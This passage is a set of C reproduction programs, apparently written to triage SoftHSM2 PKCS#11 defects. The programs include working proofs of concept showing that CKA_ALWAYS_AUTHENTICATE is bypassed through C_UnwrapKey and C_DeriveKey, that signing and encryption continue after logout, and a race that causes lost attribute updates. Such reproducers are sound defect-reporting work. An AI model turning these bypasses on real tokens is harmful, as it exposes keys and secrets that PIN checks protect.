#define CHECK(rv, what) do { CK_RV _r = (rv); if (_r != CKR_OK) { fprintf(stderr, "%s:%d %s failed: 0x%lx\n", __FILE__, __LINE__, what, (unsigned long)_r); exit(2);} } while (0)

static void hexdump(const char *label, const unsigned char *p, size_t n)
{
	printf("%s (%zu bytes) ", label, n);
	for (size_t i = 0; i < n; i++) printf("%02x", p[i]);
	printf("\n");
}

/* loads <libdir>/libsofthsm2.so, creates a fresh token in a temp dir, opens a R/W session and logs in as user */
static void setup(const char *libdir)
{
	char path[1024], conf[1024];
	if (!getcwd(path, sizeof path)) exit(2);
	snprintf(g_tmpdir, sizeof g_tmpdir, "%s/tmp.XXXXXX", path);
	if (!mkdtemp(g_tmpdir)) { perror("mkdtemp"); exit(2); }
	snprintf(path, sizeof path, "%s/tokens", g_tmpdir);
	mkdir(path, 0700);
	snprintf(conf, sizeof conf, "%s/softhsm2.conf", g_tmpdir);
	FILE *f = fopen(conf, "w");
	fprintf(f, "directories.tokendir = %s/tokens\nobjectstore.backend = file\nlog.level = ERROR\nslots.removable = false\n", g_tmpdir);
	fclose(f);
	setenv("SOFTHSM2_CONF", conf, 1);
	snprintf(path, sizeof path, "%s/libsofthsm2.so", libdir);
	void *h = dlopen(path, RTLD_NOW);
	if (!h) { fprintf(stderr, "dlopen: %s\n", dlerror()); exit(2); }
	CK_C_GetFunctionList gfl = (CK_C_GetFunctionList)dlsym(h, "C_GetFunctionList");
	CHECK(gfl(&F), "C_GetFunctionList");
	CHECK(F->C_Initialize(NULL), "C_Initialize");
	CK_SLOT_ID slots[8]; CK_ULONG n = 8;
	CHECK(F->C_GetSlotList(CK_FALSE, slots, &n), "C_GetSlotList");
	CK_UTF8CHAR label[32]; memset(label, ' ', 32); memcpy(label, "repro", 5);
	CHECK(F->C_InitToken(slots[0], (CK_UTF8CHAR_PTR)"12345678", 8, label), "C_InitToken");
	n = 8;
	CHECK(F->C_GetSlotList(CK_TRUE, slots, &n), "C_GetSlotList");
	CK_SLOT_ID slot = slots[0];
	for (CK_ULONG i = 0; i < n; i++) {
		CK_TOKEN_INFO ti;
		if (F->C_GetTokenInfo(slots[i], &ti) == CKR_OK && (ti.flags & CKF_TOKEN_INITIALIZED)) { slot = slots[i]; break; }
	}
	CHECK(F->C_OpenSession(slot, CKF_SERIAL_SESSION | CKF_RW_SESSION, NULL, NULL, &S), "C_OpenSession");
	CHECK(F->C_Login(S, CKU_SO, (CK_UTF8CHAR_PTR)"12345678", 8), "C_Login SO");
	CHECK(F->C_InitPIN(S, (CK_UTF8CHAR_PTR)"1234", 4), "C_InitPIN");
	CHECK(F->C_Logout(S), "C_Logout");
	CHECK(F->C_Login(S, CKU_USER, (CK_UTF8CHAR_PTR)"1234", 4), "C_Login user");
}

static void cleanup(void)
{
	char cmd[1200];
	snprintf(cmd, sizeof cmd, "rm -rf '%s'", g_tmpdir);
	if (strstr(g_tmpdir, "/tmp.")) system(cmd);
}

static int get_attr(CK_OBJECT_HANDLE h, CK_ATTRIBUTE_TYPE type, void *buf, size_t *len)
{
	CK_ATTRIBUTE a = {type, buf, *len};
	CK_RV rv = F->C_GetAttributeValue(S, h, &a, 1);
	if (rv != CKR_OK) { *len = 0; return (int)rv; }
	*len = a.ulValueLen;
	return 0;
}
/* ---- end of common set-up code ---- */
#include <openssl/ec.h>
#include <openssl/ecdh.h>
#include <openssl/objects.h>

static CK_RV derive(CK_OBJECT_HANDLE priv, unsigned char *pd, size_t pdl, unsigned char *out, size_t *outl)
{
	CK_ECDH1_DERIVE_PARAMS dp = {CKD_NULL, 0, NULL, pdl, pd};
	CK_MECHANISM m = {CKM_ECDH1_DERIVE, &dp, sizeof dp};
	CK_OBJECT_CLASS cls = CKO_SECRET_KEY; CK_KEY_TYPE kt = CKK_GENERIC_SECRET;
	CK_ATTRIBUTE t[] = {{CKA_CLASS, &cls, sizeof cls}, {CKA_KEY_TYPE, &kt, sizeof kt}, {CKA_PRIVATE, &F_, 1}, {CKA_SENSITIVE, &F_, 1}, {CKA_EXTRACTABLE, &T_, 1}};
	CK_OBJECT_HANDLE h;
	CK_RV rv = F->C_DeriveKey(S, &m, priv, t, 5, &h);
	if (rv) return rv;
	CHECK(get_attr(h, CKA_VALUE, out, outl), "get CKA_VALUE");
	return CKR_OK;
}

int main(int argc, char **argv)
{
	if (argc < 2) { fprintf(stderr, "usage: %s <libdir>\n", argv[0]); return 2; }
	setup(argv[1]);
	int nid = NID_secp224r1;
	unsigned char oid[64], *p = oid; int ol = i2d_ASN1_OBJECT(OBJ_nid2obj(nid), &p);
	CK_ATTRIBUTE tpub[] = {{CKA_EC_PARAMS, oid, ol}};
	CK_ATTRIBUTE tpriv[] = {{CKA_DERIVE, &T_, 1}, {CKA_PRIVATE, &F_, 1}, {CKA_SENSITIVE, &F_, 1}, {CKA_EXTRACTABLE, &T_, 1}};
	CK_MECHANISM gm = {CKM_EC_KEY_PAIR_GEN, NULL, 0};
	CK_OBJECT_HANDLE pub, priv;
	CHECK(F->C_GenerateKeyPair(S, &gm, tpub, 1, tpriv, 4, &pub, &priv), "generate P-224");
	unsigned char pt[100]; size_t pl = sizeof pt;
	CHECK(get_attr(pub, CKA_EC_POINT, pt, &pl), "get CKA_EC_POINT");
	EC_KEY *peer = EC_KEY_new_by_curve_name(nid);
	const EC_GROUP *g = EC_KEY_get0_group(peer);
	EC_POINT *tp = EC_POINT_new(g);
	if (!EC_POINT_oct2point(g, tp, pt + 2, pl - 2, NULL)) { printf("bad point\n"); return 2; }

	int bad = 0;
	for (int special = 0; special < 2; special++) {
		unsigned char raw[100], der[100], ref[100], got[100]; size_t rl, gl; int tries = 0;
		do {	/* look for a peer key whose X starts (special) / does not start (control) with 0x37 */
			EC_KEY_generate_key(peer); tries++;
			rl = EC_POINT_point2oct(g, EC_KEY_get0_public_key(peer), POINT_CONVERSION_UNCOMPRESSED, raw, sizeof raw, NULL);
		} while ((raw[1] == rl - 2) != special);
		int refl = ECDH_compute_key(ref, sizeof ref, tp, peer, NULL);
		der[0] = 4; der[1] = (unsigned char)rl; memcpy(der + 2, raw, rl);
		printf("%s peer (found after %d tries), raw point = %02x %02x %02x %02x ... (%zu bytes)\n", special ? "special" : "control", tries, raw[0], raw[1], raw[2], raw[3], rl);
		gl = sizeof got;
		CK_RV r1 = derive(priv, raw, rl, got, &gl);
		int ok1 = r1 == CKR_OK && gl == (size_t)refl && !memcmp(got, ref, gl);
		printf("   raw point: C_DeriveKey rv=0x%lx %s\n", r1, r1 ? "" : ok1 ? "secret equals openssl" : "SECRET DIFFERS");
		gl = sizeof got;
		CK_RV r2 = derive(priv, der, rl + 2, got, &gl);
		int ok2 = r2 == CKR_OK && gl == (size_t)refl && !memcmp(got, ref, gl);
		printf("   DER point: C_DeriveKey rv=0x%lx %s\n", r2, r2 ? "" : ok2 ? "secret equals openssl" : "SECRET DIFFERS");
		if (!ok1 && ok2) bad++;
		if (!ok2) { printf("unexpected: DER form fails too\n"); }
	}
	F->C_Finalize(NULL);
	cleanup();
	printf(bad ? "DEFECT REPRODUCED: a valid raw public point is refused / mis-parsed\n" : "not reproduced\n");
	return bad ? 1 : 0;
}
