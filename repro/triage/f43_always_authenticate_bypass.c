/*
 * Defect 2: CKA_ALWAYS_AUTHENTICATE is only honoured by C_Sign* and C_Decrypt.
 * C_UnwrapKey (RSA private key) and C_DeriveKey (EC / DH private key) perform the
 * private-key operation and hand out its result without any context-specific login.
 *
 * exit 1 = reproduced, 0 = not reproduced, 2 = set-up problem
 */
#include "p11h.h"

#define A(t, v) { t, &v, sizeof(v) }

static CK_OBJECT_CLASS skClass = CKO_SECRET_KEY;
static CK_KEY_TYPE ktGeneric = CKK_GENERIC_SECRET;

static int scenario_unwrap(const char *libdir)
{
	CK_RV rv;
	p11_setup(libdir, NULL);
	CK_SESSION_HANDLE s = open_rw();
	login_user(s);

	CK_MECHANISM kpg = { CKM_RSA_PKCS_KEY_PAIR_GEN, NULL, 0 };
	CK_ULONG bits = 1024; CK_BYTE e[] = { 1, 0, 1 };
	CK_ATTRIBUTE pubT[] = { A(CKA_MODULUS_BITS, bits), { CKA_PUBLIC_EXPONENT, e, 3 }, A(CKA_ENCRYPT, ckTrue) };
	CK_ATTRIBUTE prvT[] = { A(CKA_TOKEN, ckTrue), A(CKA_PRIVATE, ckTrue), A(CKA_SENSITIVE, ckTrue), A(CKA_EXTRACTABLE, ckFalse),
				A(CKA_DECRYPT, ckTrue), A(CKA_ALWAYS_AUTHENTICATE, ckTrue) };
	CK_OBJECT_HANDLE hPub, hPrv;
	CHECK_SETUP(F->C_GenerateKeyPair(s, &kpg, pubT, 3, prvT, 6, &hPub, &hPrv));
	printf("[RSA] private key: CKA_ALWAYS_AUTHENTICATE=%d CKA_DECRYPT=%d CKA_UNWRAP=%d (CKA_UNWRAP not given in the template: default)\n",
	       get_bool(s, hPrv, CKA_ALWAYS_AUTHENTICATE), get_bool(s, hPrv, CKA_DECRYPT), get_bool(s, hPrv, CKA_UNWRAP));

	CK_MECHANISM rsa = { CKM_RSA_PKCS, NULL, 0 };
	CK_BYTE secret[16] = "for PIN holders"; CK_BYTE ct[256]; CK_ULONG ctl = sizeof ct;
	CHECK_SETUP(F->C_EncryptInit(s, &rsa, hPub));
	CHECK_SETUP(F->C_Encrypt(s, secret, sizeof secret, ct, &ctl));
	printf("[RSA] a 16-byte message was encrypted for the key (CKM_RSA_PKCS)\n");

	CK_BYTE out[256]; CK_ULONG ol = sizeof out;
	CHECK_SETUP(F->C_DecryptInit(s, &rsa, hPrv));
	rv = F->C_Decrypt(s, ct, ctl, out, &ol);
	printf("[RSA] control: C_Decrypt without C_Login(CKU_CONTEXT_SPECIFIC) -> 0x%lx (0x101 CKR_USER_NOT_LOGGED_IN expected)\n", rv);
	int decryptGuarded = (rv == CKR_USER_NOT_LOGGED_IN);
	if (rv == CKR_USER_NOT_LOGGED_IN)
	{
		/* the intended way: init, context-specific login, decrypt */
		CHECK_SETUP(F->C_DecryptInit(s, &rsa, hPrv));
		CHECK_SETUP(F->C_Login(s, CKU_CONTEXT_SPECIFIC, (CK_UTF8CHAR_PTR)USERPIN, strlen(USERPIN)));
		ol = sizeof out;
		rv = F->C_Decrypt(s, ct, ctl, out, &ol);
		printf("[RSA] control: C_DecryptInit, C_Login(CKU_CONTEXT_SPECIFIC), C_Decrypt -> 0x%lx\n", rv);
	}

	CK_ATTRIBUTE uT[] = { A(CKA_CLASS, skClass), A(CKA_KEY_TYPE, ktGeneric), A(CKA_SENSITIVE, ckFalse), A(CKA_EXTRACTABLE, ckTrue) };
	CK_OBJECT_HANDLE hU = CK_INVALID_HANDLE;
	rv = F->C_UnwrapKey(s, &rsa, hPrv, ct, ctl, uT, 4, &hU);
	printf("[RSA] C_UnwrapKey(CKM_RSA_PKCS, same private key, same ciphertext), no context-specific login -> 0x%lx\n", rv);
	int leaked = 0;
	if (rv == CKR_OK)
	{
		ol = sizeof out;
		rv = get_attr(s, hU, CKA_VALUE, out, &ol);
		if (rv == CKR_OK)
		{
			hexdump("[RSA] CKA_VALUE of the unwrapped key", out, ol);
			leaked = (ol == sizeof secret && !memcmp(out, secret, ol));
			if (leaked) printf("[RSA] = the plaintext \"%.15s\": the private-key operation produced output without re-authentication\n", out);
		}
	}
	p11_cleanup();
	return (decryptGuarded && leaked) ? 1 : 0;
}

static int scenario_derive(const char *libdir)
{
	CK_RV rv;
	p11_setup(libdir, NULL);
	CK_SESSION_HANDLE s = open_rw();
	login_user(s);

	CK_MECHANISM kpg = { CKM_EC_KEY_PAIR_GEN, NULL, 0 };
	CK_BYTE p256[] = { 0x06, 0x08, 0x2a, 0x86, 0x48, 0xce, 0x3d, 0x03, 0x01, 0x07 };
	CK_ATTRIBUTE pubT[] = { { CKA_EC_PARAMS, p256, sizeof p256 } };
	CK_ATTRIBUTE prvT[] = { A(CKA_TOKEN, ckTrue), A(CKA_PRIVATE, ckTrue), A(CKA_SENSITIVE, ckTrue), A(CKA_EXTRACTABLE, ckFalse),
				A(CKA_SIGN, ckTrue), A(CKA_DERIVE, ckTrue), A(CKA_ALWAYS_AUTHENTICATE, ckTrue) };
	CK_OBJECT_HANDLE hPub, hPrv;
	rv = F->C_GenerateKeyPair(s, &kpg, pubT, 1, prvT, 7, &hPub, &hPrv);
	if (rv != CKR_OK) { printf("[EC] EC not available (0x%lx), skipped\n", rv); p11_cleanup(); return 0; }
	printf("[EC] private key: CKA_ALWAYS_AUTHENTICATE=%d CKA_SIGN=%d CKA_DERIVE=%d\n",
	       get_bool(s, hPrv, CKA_ALWAYS_AUTHENTICATE), get_bool(s, hPrv, CKA_SIGN), get_bool(s, hPrv, CKA_DERIVE));

	CK_MECHANISM ecdsa = { CKM_ECDSA, NULL, 0 };
	CK_BYTE dg[32] = { 0 }; CK_BYTE sig[128]; CK_ULONG sl = sizeof sig;
	CHECK_SETUP(F->C_SignInit(s, &ecdsa, hPrv));
	rv = F->C_Sign(s, dg, sizeof dg, sig, &sl);
	printf("[EC] control: C_Sign without C_Login(CKU_CONTEXT_SPECIFIC) -> 0x%lx (0x101 CKR_USER_NOT_LOGGED_IN expected)\n", rv);
	int signGuarded = (rv == CKR_USER_NOT_LOGGED_IN);
	if (signGuarded)
	{
		CHECK_SETUP(F->C_SignInit(s, &ecdsa, hPrv));
		CHECK_SETUP(F->C_Login(s, CKU_CONTEXT_SPECIFIC, (CK_UTF8CHAR_PTR)USERPIN, strlen(USERPIN)));
		sl = sizeof sig;
		rv = F->C_Sign(s, dg, sizeof dg, sig, &sl);
		printf("[EC] control: C_SignInit, C_Login(CKU_CONTEXT_SPECIFIC), C_Sign -> 0x%lx\n", rv);
	}

	/* ECDH with the key's own public point as peer value */
	CK_BYTE pt[80]; CK_ULONG ptl = sizeof pt;
	CHECK_SETUP(get_attr(s, hPub, CKA_EC_POINT, pt, &ptl)); /* DER OCTET STRING 04 41 04 X Y */
	CK_ECDH1_DERIVE_PARAMS dp = { CKD_NULL, 0, NULL, ptl - 2, pt + 2 };
	CK_MECHANISM ecdh = { CKM_ECDH1_DERIVE, &dp, sizeof dp };
	CK_ULONG vl = 32;
	CK_ATTRIBUTE dT[] = { A(CKA_CLASS, skClass), A(CKA_KEY_TYPE, ktGeneric), A(CKA_VALUE_LEN, vl), A(CKA_SENSITIVE, ckFalse), A(CKA_EXTRACTABLE, ckTrue) };
	CK_OBJECT_HANDLE hD = CK_INVALID_HANDLE;
	rv = F->C_DeriveKey(s, &ecdh, hPrv, dT, 5, &hD);
	printf("[EC] C_DeriveKey(CKM_ECDH1_DERIVE, same private key), no context-specific login -> 0x%lx\n", rv);
	int leaked = 0;
	if (rv == CKR_OK)
	{
		CK_BYTE out[64]; CK_ULONG ol = sizeof out;
		rv = get_attr(s, hD, CKA_VALUE, out, &ol);
		if (rv == CKR_OK) { hexdump("[EC] ECDH shared secret computed with the private key", out, ol); leaked = 1; }
	}
	p11_cleanup();
	return (signGuarded && leaked) ? 1 : 0;
}

int main(int argc, char **argv)
{
	if (argc < 2) { printf("usage: %s <dir with libsofthsm2.so>\n", argv[0]); return 2; }
	int r1 = run_child(scenario_unwrap, argv[1]);
	printf("\n");
	int r2 = run_child(scenario_derive, argv[1]);
	if (r1 == 2 || r2 == 2 || r1 >= 100 || r2 >= 100) return 2;
	printf("\nproperty C07: a private-key operation on a key with CKA_ALWAYS_AUTHENTICATE true cannot produce output before a\n"
	       "successful context-specific login.\n");
	if (r1 == 1 || r2 == 1)
	{
		printf("observed: %s%s%s produced the result of the private-key operation although no C_Login(CKU_CONTEXT_SPECIFIC)\n"
		       "was done for it, while C_Decrypt / C_Sign with the same key are refused. DEFECT REPRODUCED\n",
		       r1 == 1 ? "C_UnwrapKey (RSA decryption)" : "", (r1 == 1 && r2 == 1) ? " and " : "", r2 == 1 ? "C_DeriveKey (ECDH)" : "");
		return 1;
	}
	printf("not reproduced\n");
	return 0;
}
