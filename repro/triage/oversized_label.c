#include <stdio.h>
#include <dlfcn.h>
#include <unistd.h>
#include <sys/wait.h>
#include "cryptoki.h"
int main(){ void*h=dlopen("/repo/_build/src/lib/libsofthsm2.so",RTLD_NOW); CK_C_GetFunctionList g=(CK_C_GetFunctionList)dlsym(h,"C_GetFunctionList"); CK_FUNCTION_LIST_PTR p; g(&p);
 pid_t c=fork(); if(!c){ CK_RV r=p->C_Initialize(NULL); CK_ULONG n=8; CK_SLOT_ID s[8]; p->C_GetSlotList(CK_TRUE,s,&n); CK_TOKEN_INFO ti; r=p->C_GetTokenInfo(s[0],&ti); printf("C_GetTokenInfo=0x%lx label[0..4]=%.4s\n",r,ti.label); fflush(stdout); return 0;} int st; waitpid(c,&st,0); printf("child: %s %d\n",WIFSIGNALED(st)?"killed by signal":"exit",WIFSIGNALED(st)?WTERMSIG(st):WEXITSTATUS(st)); return 0; }
