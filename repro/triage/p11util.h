/* Small helper layer shared by the replay programs (copied into every defect directory). */
#ifndef P11UTIL_H
#define P11UTIL_H

#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <dlfcn.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/wait.h>

#include "cryptoki.h"

static CK_FUNCTION_LIST_PTR F;
static char g_base[512];     /* temp dir */
static char g_tokens[600];   /* temp dir/tokens */
static const char *SO_PIN = "12345678";
static const char *USER_PIN = "userpin1";

#define SAY(...) do { printf(__VA_ARGS__); fflush(stdout); } while (0)

__attribute__((unused)) static void p11_setup_dirs(const char *libdir_unused)
{
	(void) libdir_unused;
	const char *t = getenv("REPRO_TMP"); /* run.sh provides a fresh directory */
	char conf[700];
	if (t) { snprintf(g_base, sizeof(g_base), "%s", t); mkdir(g_base, 0700); }
	else { snprintf(g_base, sizeof(g_base), "/tmp/p11repro.XXXXXX"); if (!mkdtemp(g_base)) { perror("mkdtemp"); exit(2); } }
	snprintf(g_tokens, sizeof(g_tokens), "%s/tokens", g_base);
	mkdir(g_tokens, 0700);
	snprintf(conf, sizeof(conf), "%s/softhsm2.conf", g_base);
	FILE *f = fopen(conf, "w");
	if (!f) { perror("conf"); exit(2); }
	fprintf(f, "directories.tokendir = %s\nobjectstore.backend = file\nlog.level = ERROR\nslots.removable = false\n", g_tokens);
	fclose(f);
	setenv("SOFTHSM2_CONF", conf, 1);
}

__attribute__((unused)) static void p11_load(const char *libdir)
{
	char path[1024];
	snprintf(path, sizeof(path), "%s/libsofthsm2.so", libdir);
	void *h = dlopen(path, RTLD_NOW | RTLD_GLOBAL);
	if (!h) { fprintf(stderr, "dlopen: %s\n", dlerror()); exit(2); }
	CK_C_GetFunctionList gfl = (CK_C_GetFunctionList) dlsym(h, "C_GetFunctionList");
	if (!gfl || gfl(&F) != CKR_OK) { fprintf(stderr, "no function list\n"); exit(2); }
}

#define MUST(call) do { CK_RV rv__ = (call); if (rv__ != CKR_OK) { printf("SETUP FAILURE %s:%d: %s -> 0x%lx\n", __FILE__, __LINE__, #call, (unsigned long) rv__); fflush(stdout); _exit(2); } } while (0)

/* first slot holding an initialised token (or the free slot when none is) */
__attribute__((unused)) static CK_SLOT_ID p11_slot(int wantInitialised)
{
	CK_SLOT_ID slots[32]; CK_ULONG n = 0;
	MUST(F->C_GetSlotList(CK_TRUE, NULL, &n));
	if (n > 32) n = 32;
	MUST(F->C_GetSlotList(CK_TRUE, slots, &n));
	for (CK_ULONG i = 0; i < n; i++) {
		CK_TOKEN_INFO ti;
		if (F->C_GetTokenInfo(slots[i], &ti) != CKR_OK) continue;
		int init = (ti.flags & CKF_TOKEN_INITIALIZED) != 0;
		if (init == wantInitialised) return slots[i];
	}
	return (CK_SLOT_ID) -1;
}

/* initialise a token with SO and user PIN; library must be initialised; leaves no session open */
__attribute__((unused)) static void p11_make_token(const char *label)
{
	CK_UTF8CHAR lab[32];
	memset(lab, ' ', 32); memcpy(lab, label, strlen(label));
	CK_SLOT_ID s = p11_slot(0);
	if (s == (CK_SLOT_ID) -1) { printf("SETUP FAILURE: no free slot\n"); _exit(2); }
	MUST(F->C_InitToken(s, (CK_UTF8CHAR_PTR) SO_PIN, strlen(SO_PIN), lab));
	s = p11_slot(1);
	CK_SESSION_HANDLE h;
	MUST(F->C_OpenSession(s, CKF_SERIAL_SESSION | CKF_RW_SESSION, NULL, NULL, &h));
	MUST(F->C_Login(h, CKU_SO, (CK_UTF8CHAR_PTR) SO_PIN, strlen(SO_PIN)));
	MUST(F->C_InitPIN(h, (CK_UTF8CHAR_PTR) USER_PIN, strlen(USER_PIN)));
	MUST(F->C_Logout(h));
	MUST(F->C_CloseSession(h));
}

__attribute__((unused)) static CK_SESSION_HANDLE p11_user_session(void)
{
	CK_SLOT_ID s = p11_slot(1);
	CK_SESSION_HANDLE h;
	if (s == (CK_SLOT_ID) -1) { printf("SETUP FAILURE: no initialised token\n"); _exit(2); }
	MUST(F->C_OpenSession(s, CKF_SERIAL_SESSION | CKF_RW_SESSION, NULL, NULL, &h));
	MUST(F->C_Login(h, CKU_USER, (CK_UTF8CHAR_PTR) USER_PIN, strlen(USER_PIN)));
	return h;
}

/* the single token directory below g_tokens */
__attribute__((unused)) static const char *p11_token_dir(void)
{
	static char out[900];
	DIR *d = opendir(g_tokens);
	struct dirent *e;
	out[0] = 0;
	if (!d) return out;
	while ((e = readdir(d)) != NULL) {
		if (e->d_name[0] == '.') continue;
		snprintf(out, sizeof(out), "%s/%s", g_tokens, e->d_name);
		break;
	}
	closedir(d);
	return out;
}

/* number of "*.object" files besides token.object in the token directory */
__attribute__((unused)) static int p11_count_object_files(void)
{
	int n = 0;
	DIR *d = opendir(p11_token_dir());
	struct dirent *e;
	if (!d) return -1;
	while ((e = readdir(d)) != NULL) {
		size_t l = strlen(e->d_name);
		if (l > 7 && !strcmp(e->d_name + l - 7, ".object") && strcmp(e->d_name, "token.object")) n++;
	}
	closedir(d);
	return n;
}

__attribute__((unused)) static CK_ULONG p11_find(CK_SESSION_HANDLE h, CK_ATTRIBUTE *t, CK_ULONG nt, CK_OBJECT_HANDLE *out, CK_ULONG max)
{
	CK_ULONG n = 0;
	CK_RV rv = F->C_FindObjectsInit(h, t, nt);
	if (rv != CKR_OK) { printf("   C_FindObjectsInit -> 0x%lx\n", (unsigned long) rv); return 0; }
	rv = F->C_FindObjects(h, out, max, &n);
	if (rv != CKR_OK) { printf("   C_FindObjects -> 0x%lx\n", (unsigned long) rv); n = 0; }
	F->C_FindObjectsFinal(h);
	return n;
}

__attribute__((unused)) static CK_ULONG p11_find_label(CK_SESSION_HANDLE h, const char *label, CK_OBJECT_HANDLE *out, CK_ULONG max)
{
	CK_ATTRIBUTE t[] = { { CKA_LABEL, (void *) label, strlen(label) } };
	return p11_find(h, t, 1, out, max);
}

/* returns length or -1 */
__attribute__((unused)) static long p11_get(CK_SESSION_HANDLE h, CK_OBJECT_HANDLE o, CK_ATTRIBUTE_TYPE type, void *buf, size_t max, CK_RV *prv)
{
	CK_ATTRIBUTE a = { type, buf, max };
	CK_RV rv = F->C_GetAttributeValue(h, o, &a, 1);
	if (prv) *prv = rv;
	if (rv != CKR_OK) return -1;
	return (long) a.ulValueLen;
}

/* run fn in a child; returns exit status (0..255) or 1000+signal */
__attribute__((unused)) static int p11_in_child(int (*fn)(void *), void *arg)
{
	fflush(stdout); fflush(stderr);
	pid_t p = fork();
	if (p < 0) { perror("fork"); exit(2); }
	if (p == 0) { int r = fn(arg); fflush(stdout); _exit(r); }
	int st = 0;
	waitpid(p, &st, 0);
	if (WIFSIGNALED(st)) return 1000 + WTERMSIG(st);
	return WEXITSTATUS(st);
}

__attribute__((unused)) static int p11_file_contains(const char *path, const void *needle, size_t nlen)
{
	FILE *f = fopen(path, "rb");
	if (!f) return 0;
	fseek(f, 0, SEEK_END); long sz = ftell(f); fseek(f, 0, SEEK_SET);
	unsigned char *b = (unsigned char *) malloc(sz > 0 ? sz : 1);
	size_t r = fread(b, 1, sz > 0 ? sz : 0, f);
	fclose(f);
	int found = 0;
	if (r >= nlen) found = memmem(b, r, needle, nlen) != NULL;
	free(b);
	return found;
}

#endif
