#include "f30_common.h"
int main(int argc,char**argv){
  setup(argv[1]); init_token(); CK_SESSION_HANDLE s=open_rw(); login_user(s);
  CK_OBJECT_HANDLE pub,prv; CHECK(gen_rsa(s, CK_FALSE, 1024, &pub, &prv));
  CK_OBJECT_HANDLE aes = gen_aes(s, CK_FALSE, CK_TRUE, CK_FALSE);
  CK_MECHANISM m={CKM_SHA256_RSA_PKCS,NULL,0};
  CK_RV rv=F->C_SignInit(s,&m,prv); printf("C_SignInit (user logged in) rv=0x%lx\n",rv);
  CK_SESSION_HANDLE s2=open_rw();
  CK_BYTE iv[16]={0}; CK_MECHANISM em={CKM_AES_CBC_PAD,iv,16};
  rv=F->C_EncryptInit(s2,&em,aes); printf("C_EncryptInit(private AES key) rv=0x%lx\n",rv);
  rv=F->C_Logout(s); printf("C_Logout rv=0x%lx\n",rv);
  CK_BYTE msg[]="hello", sig[256]; CK_ULONG sl=sizeof(sig);
  rv=F->C_Sign(s,msg,5,sig,&sl); printf("C_Sign after logout rv=0x%lx len=%lu\n",rv,sl);
  CK_BYTE ct[64]; CK_ULONG cl=sizeof(ct);
  rv=F->C_Encrypt(s2,msg,5,ct,&cl); printf("C_Encrypt after logout rv=0x%lx len=%lu\n",rv,cl);
  return 0;}
