/*
 * Defect 2 - lost update: a successfully committed C_SetAttributeValue of one process is silently
 * undone by a C_SetAttributeValue of another process on a *different* attribute of the same object.
 *
 * Scenario 1 (deterministic): process A is stopped (interposed open()) just before it takes the
 *   object's ".lock" file; meanwhile B changes CKA_LABEL (CKR_OK); then A changes CKA_ID (CKR_OK).
 * Scenario 2 (no shim, plain race): two processes each update "their" attribute 400 times and
 *   read it back after every successful call. Nobody else ever writes that attribute.
 */
#include "p11util.h"
#include <stdarg.h>
#include <sys/syscall.h>

static volatile int armed = 0;
static int to_parent = -1, from_parent = -1;

int open(const char *path, int flags, ...)
{
	mode_t mode = 0;
	if (flags & O_CREAT) { va_list ap; va_start(ap, flags); mode = va_arg(ap, mode_t); va_end(ap); }
	size_t l = strlen(path);
	if (armed && l > 5 && !strcmp(path + l - 5, ".lock") && !strstr(path, "token.lock")) {
		char c = 'p';
		armed = 0;
		if (write(to_parent, &c, 1) != 1) _exit(2);
		if (read(from_parent, &c, 1) != 1) _exit(2);
	}
	return (int) syscall(SYS_openat, AT_FDCWD, path, flags, mode);
}

static CK_OBJECT_HANDLE the_key(CK_SESSION_HANDLE h)
{
	CK_OBJECT_CLASS cls = CKO_SECRET_KEY;
	CK_ATTRIBUTE ft[] = { { CKA_CLASS, &cls, sizeof(cls) } };
	CK_OBJECT_HANDLE o[2];
	if (p11_find(h, ft, 1, o, 2) != 1) { SAY("SETUP FAILURE: key not found\n"); _exit(2); }
	return o[0];
}

static int setup(void *u)
{
	(void) u;
	MUST(F->C_Initialize(NULL));
	p11_make_token("defect2");
	CK_SESSION_HANDLE h = p11_user_session();
	CK_OBJECT_CLASS cls = CKO_SECRET_KEY; CK_BBOOL t = CK_TRUE, f = CK_FALSE; CK_KEY_TYPE kt = CKK_GENERIC_SECRET;
	CK_ATTRIBUTE tmpl[] = { { CKA_CLASS, &cls, sizeof(cls) }, { CKA_KEY_TYPE, &kt, sizeof(kt) }, { CKA_TOKEN, &t, 1 }, { CKA_PRIVATE, &f, 1 },
		{ CKA_LABEL, "label0", 6 }, { CKA_ID, "id0", 3 }, { CKA_VALUE, "payloadpayload16", 16 } };
	CK_OBJECT_HANDLE o;
	MUST(F->C_CreateObject(h, tmpl, 7, &o));
	MUST(F->C_Finalize(NULL));
	return 0;
}

static int procA(void)
{
	MUST(F->C_Initialize(NULL));
	CK_SESSION_HANDLE h = p11_user_session();
	CK_OBJECT_HANDLE o = the_key(h);
	CK_ATTRIBUTE set[] = { { CKA_ID, "idA", 3 } };
	SAY("A: calls C_SetAttributeValue(key, CKA_ID=\"idA\")\n");
	armed = 1;
	CK_RV rv = F->C_SetAttributeValue(h, o, set, 1);
	SAY("A: C_SetAttributeValue(CKA_ID=\"idA\") returned 0x%lx\n", rv);
	F->C_Finalize(NULL);
	return rv == CKR_OK ? 0 : 2;
}

static int procB(void *u)
{
	(void) u;
	MUST(F->C_Initialize(NULL));
	CK_SESSION_HANDLE h = p11_user_session();
	CK_OBJECT_HANDLE o = the_key(h);
	CK_ATTRIBUTE set[] = { { CKA_LABEL, "labelB", 6 } };
	CK_RV rv = F->C_SetAttributeValue(h, o, set, 1);
	char lab[32] = { 0 };
	p11_get(h, o, CKA_LABEL, lab, 31, NULL);
	SAY("B: C_SetAttributeValue(CKA_LABEL=\"labelB\") returned 0x%lx; B reads back CKA_LABEL='%s'\n", rv, lab);
	F->C_Finalize(NULL);
	return rv == CKR_OK ? 0 : 2;
}

static int procC(void *u)
{
	(void) u;
	MUST(F->C_Initialize(NULL));
	CK_SESSION_HANDLE h = p11_user_session();
	CK_OBJECT_HANDLE o = the_key(h);
	char lab[32] = { 0 }, id[32] = { 0 };
	p11_get(h, o, CKA_LABEL, lab, 31, NULL);
	p11_get(h, o, CKA_ID, id, 31, NULL);
	SAY("C: a fresh process reads CKA_LABEL='%s' CKA_ID='%s'  (expected 'labelB' and 'idA')\n", lab, id);
	F->C_Finalize(NULL);
	return (!strcmp(lab, "labelB") && !strcmp(id, "idA")) ? 0 : 1;
}

static int worker(void *u)
{
	int which = *(int *) u;
	CK_ATTRIBUTE_TYPE mine = which ? CKA_ID : CKA_LABEL;
	MUST(F->C_Initialize(NULL));
	CK_SESSION_HANDLE h = p11_user_session();
	CK_OBJECT_HANDLE o = the_key(h);
